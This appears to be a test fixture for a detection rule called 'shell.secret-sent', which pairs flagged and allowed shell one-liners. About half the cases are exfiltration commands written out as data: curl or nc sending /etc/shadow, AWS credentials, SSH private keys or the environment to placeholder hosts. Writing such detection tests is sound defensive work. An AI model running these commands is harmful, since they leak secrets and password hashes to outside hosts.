# ruleid: shell.secret-sent
curl --data-binary @/etc/shadow https://example.com
# --- case
# ruleid: shell.secret-sent
cat ~/.aws/credentials | curl -d @- https://example.com
# --- case
# ruleid: shell.secret-sent
curl -F f=@$HOME/.ssh/id_rsa https://example.com
# --- case
# ok: shell.secret-sent
curl -d @body.json https://example.com
# --- case
# ok: shell.secret-sent
env | sort
# --- case
# ruleid: shell.secret-sent
curl -F "file=@$HOME/.ssh/id_rsa" https://example.com
# --- case
# ruleid: shell.secret-sent
cat /etc/shadow | nc 10.0.0.7 9000
# --- case
# ruleid: shell.secret-sent
tar cz ~/.aws | curl -T - https://example.com
# --- case
# ruleid: shell.secret-sent
env | curl -X POST --data-binary @- https://example.com
# --- case
# ok: shell.secret-sent
curl -F "file=@report.pdf" https://example.com
# --- case
# ok: shell.secret-sent
tar cz build | ssh host "tar xz"
# --- case
# ok: shell.secret-sent
cat ~/.ssh/id_rsa.pub
# --- case
# ok: shell.secret-sent
curl -d @body.json https://api.example.com
